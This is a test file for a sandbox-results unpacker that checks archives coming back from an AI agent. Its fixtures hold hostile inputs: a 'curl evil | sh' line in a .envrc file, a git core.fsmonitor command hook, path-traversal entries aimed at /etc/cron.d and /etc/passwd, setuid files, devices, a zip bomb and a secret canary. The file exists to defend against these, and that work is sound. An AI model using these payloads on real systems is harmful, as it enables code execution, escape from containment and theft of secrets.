// What comes home from a sandbox (src/core/run/results.ts): archives made by the real GNU tar from folders an agent
// could leave (setuid files, links, a git repository with core.fsmonitor set, devices), and archives written entry by
// entry the way an agent that replaced `tar` could (paths out of the folder, a `.` entry, a hard link to nothing,
// a zip bomb, a truncated stream).
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { Header } from 'tar/header';
import {
  DEFAULT_RESULT_LIMITS,
  controlReason,
  entryName,
  unpackResults,
  type ResultLimits,
} from '../../../../src/core/run/results';
import { Redactor } from '../../../../src/core/redact';

interface Entry {
  path: string;
  type?: string;
  mode?: number;
  data?: string | Buffer;
  /** The size the header claims (default: the data's). */
  size?: number;
  linkpath?: string;
}

/** A tar stream, entry by entry, as anything in the sandbox could write it. */
function tarOf(entries: Entry[], { end = true } = {}): Buffer {
  const blocks: Buffer[] = [];
  for (const e of entries) {
    const data = Buffer.from(e.data ?? '');
    const header = Buffer.alloc(512);
    new Header({
      path: e.path,
      type: (e.type ?? 'File') as never,
      mode: e.mode ?? 0o644,
      size: e.size ?? data.length,
      linkpath: e.linkpath,
      mtime: new Date(0),
      uid: 0,
      gid: 0,
    }).encode(header, 0);
    blocks.push(header, data, Buffer.alloc((512 - (data.length % 512)) % 512));
  }
  if (end) blocks.push(Buffer.alloc(1024));
  return Buffer.concat(blocks);
}

async function* chunks(buffer: Buffer, size = 7000): AsyncGenerator<Buffer> {
  for (let at = 0; at < buffer.length; at += size) yield buffer.subarray(at, at + size);
}

const modeOf = (file: string) => fs.statSync(file).mode & 0o7777;

describe('results that come home (unpackResults)', () => {
  let work: string;
  let target: string;
  beforeEach(() => {
    work = fs.mkdtempSync(path.join(os.tmpdir(), 'results-test-'));
    target = path.join(work, 'home', 'results');
  });
  afterEach(() => fs.rmSync(work, { recursive: true, force: true }));

  const unpack = (source: Buffer, options: { gzip?: boolean; limits?: Partial<ResultLimits>; secret?: string } = {}) =>
    unpackResults(chunks(source), target, {
      gzip: options.gzip ?? false,
      limits: { ...DEFAULT_RESULT_LIMITS, ...options.limits },
      ...(options.secret ? { holdsSecret: (text) => new Redactor([options.secret]).redact(text) !== text } : {}),
    });

  it('brings plain files and folders home with modes masked to 0644/0755; links, pipes and a git repository with core.fsmonitor stay out', async () => {
    const folder = path.join(work, 'sandbox', 'app', 'results');
    fs.mkdirSync(path.join(folder, 'charts'), { recursive: true });
    fs.writeFileSync(path.join(folder, 'report.md'), '# Report\n');
    fs.writeFileSync(path.join(folder, 'charts', 'plot.svg'), '<svg/>');
    fs.writeFileSync(path.join(folder, 'run.sh'), '#!/bin/sh\n');
    fs.chmodSync(path.join(folder, 'run.sh'), 0o4755); // setuid, as an agent running as root can make it
    fs.writeFileSync(path.join(folder, 'shared.txt'), 'world-writable');
    fs.chmodSync(path.join(folder, 'shared.txt'), 0o666);
    fs.chmodSync(path.join(folder, 'charts'), 0o777);
    fs.linkSync(path.join(folder, 'report.md'), path.join(folder, 'report-copy.md'));
    fs.symlinkSync('/etc/passwd', path.join(folder, 'passwd'));
    execFileSync('mkfifo', [path.join(folder, 'pipe')]);
    const marker = path.join(work, 'fsmonitor-ran');
    execFileSync('git', ['init', '-q', folder]);
    execFileSync('git', ['-C', folder, 'config', 'core.fsmonitor', `touch '${marker}'; false`]);
    fs.mkdirSync(path.join(folder, 'nested', '.vscode'), { recursive: true });
    fs.writeFileSync(path.join(folder, 'nested', '.vscode', 'tasks.json'), '{}');
    fs.writeFileSync(path.join(folder, 'nested', '.envrc'), 'curl evil | sh');

    const archive = execFileSync('tar', ['-czf', '-', '-C', folder, '.'], { maxBuffer: 64 * 1024 * 1024 });
    const report = await unpack(archive, { gzip: true });

    assert.deepEqual(report.files, ['charts/plot.svg', 'report-copy.md', 'report.md', 'run.sh', 'shared.txt']);
    assert.deepEqual(
      report.dropped.map((d) => [d.path, d.reason]).sort(),
      [
        ['.git', 'a git repository (git would run its hooks and core.fsmonitor here)'],
        ['nested/.envrc', 'a direnv file (loaded on entering the folder)'],
        ['nested/.vscode', 'VS Code settings and tasks (applied to a folder opened here)'],
        ['passwd', 'a symbolic link'],
        ['pipe', 'a named pipe'],
      ].sort(),
      'each left out once, a control folder with everything under it',
    );
    assert.equal(
      fs.readFileSync(path.join(target, 'report-copy.md'), 'utf8'),
      '# Report\n',
      'both of a hard-linked pair',
    );
    assert.equal(modeOf(path.join(target, 'run.sh')), 0o755, 'no setuid bit');
    assert.equal(modeOf(path.join(target, 'shared.txt')), 0o644);
    assert.equal(modeOf(path.join(target, 'charts')), 0o755);
    assert.ok(!fs.existsSync(path.join(target, '.git')));
    assert.deepEqual(fs.readdirSync(target).sort(), [
      'charts',
      'nested',
      'report-copy.md',
      'report.md',
      'run.sh',
      'shared.txt',
    ]);
    spawnSync('git', ['status'], { cwd: target, stdio: 'ignore' }); // what VS Code's git extension runs on opening a file
    assert.ok(!fs.existsSync(marker), 'the agent’s fsmonitor never ran');
  });

  it('refuses paths outside the folder, a `.` file, devices and a hard link to nothing; keeps what is fine', async () => {
    fs.mkdirSync(path.join(work, 'home'), { recursive: true });
    const report = await unpack(
      tarOf([
        { path: './', type: 'Directory', mode: 0o755 },
        { path: './ok.txt', data: 'ok' },
        { path: '../escape.txt', data: 'x' },
        { path: '/etc/cron.d/x', data: 'x' },
        { path: 'a/../../escape.txt', data: 'x' },
        { path: '.', data: 'a file named dot' },
        { path: 'C:evil', data: 'x' },
        { path: 'sub\\..\\..\\evil', data: 'x' },
        { path: 'dev-null', type: 'CharacterDevice' },
        { path: 'disk', type: 'BlockDevice' },
        { path: 'orphan', type: 'Link', linkpath: 'not-there' },
        { path: 'up', type: 'Link', linkpath: '../../etc/passwd' },
        { path: 'ok.txt', data: 'second' },
        { path: '.GIT/config', data: '[core]\n\tfsmonitor = touch /tmp/x' },
        { path: 'deep/.Hg./hgrc', data: '[hooks]' },
      ]),
    );
    assert.deepEqual(report.files, ['ok.txt']);
    assert.equal(fs.readFileSync(path.join(target, 'ok.txt'), 'utf8'), 'ok', 'the first of two entries is kept');
    assert.deepEqual(
      report.dropped.map((d) => `${d.path}: ${d.reason}`),
      [
        '../escape.txt: a path outside the results folder',
        '/etc/cron.d/x: a path outside the results folder',
        'a/../../escape.txt: a path outside the results folder',
        'C:evil: a path outside the results folder',
        'sub\\..\\..\\evil: a path outside the results folder',
        'dev-null: a device',
        'disk: a device',
        'orphan: a hard link to nothing brought home',
        'up: a hard link to nothing brought home',
        'ok.txt: a second entry of the same name (the first is kept)',
        '.GIT: a git repository (git would run its hooks and core.fsmonitor here)',
        'deep/.Hg.: a Mercurial repository (its hooks would run here)',
      ],
    );
    assert.deepEqual(fs.readdirSync(path.join(work, 'home')), ['results'], 'nothing written beside the folder');
    assert.deepEqual(fs.readdirSync(target), ['ok.txt']);
  });

  it('drops a file over the one-file limit alone, and stops at the total and file-count limits, saying so', async () => {
    const big = { limits: { maxFileBytes: 1000, maxTotalBytes: 2500, maxFiles: 100 } };
    const report = await unpack(
      tarOf([
        { path: 'a.bin', data: Buffer.alloc(900) },
        { path: 'huge.bin', data: Buffer.alloc(5000) },
        { path: 'b.bin', data: Buffer.alloc(900) },
        { path: 'c.bin', data: Buffer.alloc(900) },
        { path: 'd.bin', data: Buffer.alloc(10) },
      ]),
      big,
    );
    assert.deepEqual(report.files, ['a.bin', 'b.bin']);
    assert.deepEqual(
      report.dropped.map((d) => `${d.path}: ${d.reason}`),
      [
        'huge.bin: larger than the limit for one file (0 MB)',
        'c.bin: over the limit for all results together (0 MB)',
        '…: the rest was not read: over the limit for all results together (0 MB)',
      ],
    );
  });

  it('stops at the file-count limit', async () => {
    const report = await unpack(
      tarOf(Array.from({ length: 30 }, (_, i) => ({ path: `f${String(i).padStart(2, '0')}.txt`, data: 'x' }))),
      { limits: { maxFiles: 10 } },
    );
    assert.equal(report.files.length, 10);
    assert.deepEqual(
      report.dropped.map((d) => `${d.path}: ${d.reason}`),
      [
        'f10.txt: over the limit of 10 files and folders',
        '…: the rest was not read: over the limit of 10 files and folders',
      ],
    );
  });

  it('stops a zip bomb at the compression-ratio limit, before it fills the disk', async () => {
    // 64 MB of zeros: about 64 KB compressed, a ratio of about 1000.
    const bomb = zlib.gzipSync(tarOf([{ path: 'zeros.bin', data: Buffer.alloc(64 * 1024 * 1024) }]));
    const report = await unpack(bomb, { gzip: true, limits: { maxFileBytes: 1024 ** 3, maxTotalBytes: 1024 ** 3 } });
    assert.deepEqual(report.files, []);
    assert.deepEqual(
      report.dropped.map((d) => d.path),
      ['zeros.bin', '…'],
    );
    assert.match(report.dropped[0]!.reason, /^not read to its end: the archive expands more than 100 times its size/);
    assert.ok(!fs.existsSync(path.join(target, 'zeros.bin')), 'the partial file is removed');

    const fine = zlib.gzipSync(tarOf([{ path: 'zeros.bin', data: Buffer.alloc(4 * 1024 * 1024) }]));
    const allowed = await unpack(fine, { gzip: true, limits: { maxCompressionRatio: 2000 } });
    assert.deepEqual(allowed.files, ['zeros.bin'], 'a higher limit lets it through');
  });

  it('drops a file the stream ends inside, and says the archive is damaged', async () => {
    const whole = tarOf(
      [
        { path: 'ok.txt', data: 'ok' },
        { path: 'cut.bin', data: Buffer.alloc(4096, 1) },
      ],
      { end: false },
    );
    const report = await unpack(whole.subarray(0, whole.length - 2000));
    assert.deepEqual(report.files, ['ok.txt']);
    assert.deepEqual(
      report.dropped.map((d) => d.path),
      ['…', 'cut.bin'],
    );
    assert.match(report.dropped[1]!.reason, /the archive ends inside it/);
  });

  it('names the result files that hold a secret, in any spelling, and leaves them as they are', async () => {
    const key = 'sk-ant-api03-results-canary-0123456789';
    const report = await unpack(
      tarOf([
        { path: 'plain.txt', data: `key=${key}\n` },
        { path: 'encoded.txt', data: `blob ${Buffer.from(`xx${key}yy`).toString('base64')}\n` },
        { path: 'far.bin', data: Buffer.concat([Buffer.alloc(100_000, 0x41), Buffer.from(key)]) },
        { path: 'clean.txt', data: 'nothing here' },
      ]),
      { secret: key },
    );
    assert.deepEqual(report.withSecrets, ['encoded.txt', 'far.bin', 'plain.txt']);
    assert.equal(fs.readFileSync(path.join(target, 'plain.txt'), 'utf8'), `key=${key}\n`, 'reported, not rewritten');
  });
});

describe('entryName and controlReason', () => {
  it('normalises the archive’s own `./` and refuses anything else that is not a plain relative path', () => {
    assert.equal(entryName('./'), '');
    assert.equal(entryName('./a/b.txt'), 'a/b.txt');
    assert.equal(entryName('a/b/'), 'a/b');
    for (const bad of ['../x', '/x', 'a/./b', 'a//b', 'a\\b', 'D:/x', 'x\0y'])
      assert.equal(entryName(bad), undefined, bad);
  });

  it('knows control names whatever their case and trailing dots or spaces', () => {
    for (const name of ['.git', '.GIT', '.git.', '.git ', '.svn', '.vscode', '.envrc', 'mise.toml'])
      assert.ok(controlReason(name), name);
    for (const name of ['.gitignore', 'git', '.github', 'vscode', 'envrc'])
      assert.equal(controlReason(name), undefined, name);
  });
});
